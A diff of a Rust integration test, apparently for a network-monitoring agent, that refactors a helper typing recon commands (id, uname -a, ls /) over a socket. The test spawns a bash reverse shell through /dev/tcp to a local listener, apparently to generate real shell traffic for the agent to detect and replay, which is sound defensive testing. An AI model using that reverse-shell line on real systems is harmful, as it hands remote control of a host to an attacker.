@@ -6,7 +6,6 @@ mod common;
 
 use agent_support::privileged;
 use common::*;
-use std::io::{Read, Write};
 use std::net::TcpListener;
 use std::process::{Command, Stdio};
 use std::time::Duration;
@@ -28,24 +27,12 @@ fn replay_joins_a_recorded_inventory_with_a_recorded_capture() {
         .spawn()
         .expect("tcpdump (CI installs it)");
     let mut agent = Command::new(bin())
-        .args(["agent", "--interval", "500ms", "--output", inventory.to_str().unwrap(), "--duration", "16"])
+        .args(["agent", "--interval", "500ms", "--output", inventory.to_str().unwrap(), "--duration", "18"])
         .stderr(Stdio::null())
         .spawn()
         .unwrap();
     std::thread::sleep(Duration::from_millis(1500));
-    let typist = std::thread::spawn(move || {
-        let (mut s, _) = listener.accept().unwrap();
-        s.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
-        let mut buf = [0u8; 4096];
-        for (cmd, ms) in [("id", 1300), ("uname -a", 2100), ("hostname", 1000), ("ls /", 2600), ("pwd", 1500)]
-        {
-            std::thread::sleep(Duration::from_millis(ms));
-            s.write_all(format!("{cmd}\n").as_bytes()).unwrap();
-            let _ = s.read(&mut buf);
-        }
-        std::thread::sleep(Duration::from_millis(500));
-        let _ = s.write_all(b"exit\n");
-    });
+    let typist = std::thread::spawn(move || operator(listener));
     let mut shell = Command::new("bash")
         .args(["-c", &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
         .stdin(Stdio::null())
